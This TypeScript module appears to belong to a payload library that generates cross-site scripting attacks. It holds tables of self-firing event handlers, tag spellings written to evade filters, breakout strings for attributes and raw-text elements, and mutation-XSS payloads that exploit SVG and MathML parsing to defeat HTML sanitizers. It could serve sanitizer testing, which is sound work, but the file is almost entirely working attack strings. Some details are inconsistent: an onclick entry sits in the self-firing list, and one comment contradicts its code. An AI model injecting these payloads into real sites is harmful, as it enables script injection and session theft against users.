import { each, join } from './compose.js';

/** What begins to run by itself in markup: an element and the event that it fires with no hand of a person. */
const FIRING: readonly (readonly [element: string, attributes: string, event: string])[] = [
  ['img', 'src=x', 'onerror'],
  ['image', 'href=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['video><source', 'src=x', 'onerror'],
  ['iframe', 'src=about:blank', 'onload'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onload'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['style', '', 'onload'],
  ['script', 'src=x', 'onerror'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['input', 'type=image src=x', 'onerror'],
  ['details', 'open', 'ontoggle'],
  ['div', 'popover', 'onbeforetoggle'],
  ['marquee', '', 'onstart'],
  ['svg><animate', 'attributeName=x dur=1s', 'onbegin'],
  ['svg><set', 'attributeName=x dur=1s', 'onend'],
  ['svg><image', 'href=x', 'onerror'],
  ['p', 'tabindex=0 id=x', 'onfocusin'],
  ['b', 'contenteditable', 'onpointerrawupdate'],
  ['active-session', 'client=x', 'onclick'],
];

/** How a tag can be written so that a filter does not know it and a parser does. */
const SPELLINGS: readonly ((element: string, attributes: string, event: string, run: string) => string)[] = [
  (element, attributes, event, run) => `<${join(element, attributes)} ${event}=${run}>`,
  (element, attributes, event, run) => `<${join(mixed(element), attributes)} ${mixed(event)}="${run}">`,
  (element, attributes, event, run) => `<${join(element, attributes)}/${event}='${run}'/>`,
  (element, attributes, event, run) => `<${join(element, attributes).replaceAll(' ', '\n')}\n${event}\t=\f${run}\n>`,
  (element, attributes, event, run) => `"><${join(element, attributes)} ${event}=\`${run}\`>`,
  (element, attributes, event, run) => `<<${join(element, attributes)} ${event}=${asEntities(run)}//`,
];

/** What text may stand in, and what gets out of it. */
const BREAKS = [
  ...['"', "'", '`', '>', '">', "'>", '-->', '--!>', ']]>', '?>', '%>', '*/', '\\"', '}}', '--\n>'],
  ...['title', 'textarea', 'style', 'script', 'noscript', 'template', 'option></select', 'bdi', 'p', 'slot'].map(
    (element) => `</${element}>`,
  ),
];

/** What comes behind it. */
const CORES: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => ` autofocus tabindex=0 onfocus=${run} x=`,
  (run) => `<svg/onload=${run}>`,
];

const ROOTS = [
  ['svg', 'desc'],
  ['svg', 'title'],
  ['svg', 'foreignObject'],
  ['math', 'mtext'],
  ['math', 'mi'],
  ['math', 'annotation-xml encoding=text/html'],
] as const;
const RAW = ['style', 'title', 'textarea', 'noscript', 'xmp', 'iframe', 'noembed', 'script'];

/** Elements that start a script by an event of their own, in every spelling. */
export function elements(run: string): readonly string[] {
  return each(FIRING, SPELLINGS, ([element, attributes, event], write) => write(element, attributes, event, run));
}

/** Ends of what text may stand in: an attribute, a comment, another element. */
export function breakouts(run: string): readonly string[] {
  return each(BREAKS, CORES, (end, core) => `${end}${core(run)}`);
}

/** Harmless where it is parsed once, not where what came of it is parsed again: other namespaces, raw text in them. */
export function mutations(run: string): readonly string[] {
  return [
    ...each(ROOTS, RAW, ([root, point], raw) => {
      const hidden = `<${raw}><a title="</${raw}><img src=x onerror=${run}>">`;
      return `<${root}><${point}>${hidden}</${root}>`;
    }),
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
    `<table><caption><svg><title><table><td><style><a title="</style><img src=x onerror=${run}>">`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<a title="&lt;/a>&lt;img src=x onerror=${run}>">`,
    `<!--><img src=x onerror=${run}>-->`,
    `<!--<!--><script>${run}</script>-->`,
    `<![CDATA[><img src=x onerror=${run}>]]>`,
    `<?xml version="1.0"?><?xml-stylesheet href="x"?><x onclick=${run}>`,
    `<template shadowrootmode=open><slot onslotchange=${run}></slot></template>x`,
    `<template><script>${run}</script></template>`,
    `<iframe srcdoc="${asEntities(`<script>${run}</script>`)}">`,
  ];
}

/** Letters in both cases, as parsers of HTML do not care: "iMg". */
function mixed(text: string): string {
  return Array.from(text, (letter, index) => (index % 2 === 1 ? letter.toUpperCase() : letter)).join('');
}

/** Each letter as a reference to it, without the semicolon where none is needed. */
function asEntities(text: string): string {
  return Array.from(text, (letter, index) => `&#${index % 2 === 1 ? 'x' : ''}${code(letter, index % 2 === 1)};`).join(
    '',
  );
}

function code(letter: string, hex: boolean): string {
  return (letter.codePointAt(0) ?? 0).toString(hex ? 16 : 10);
}
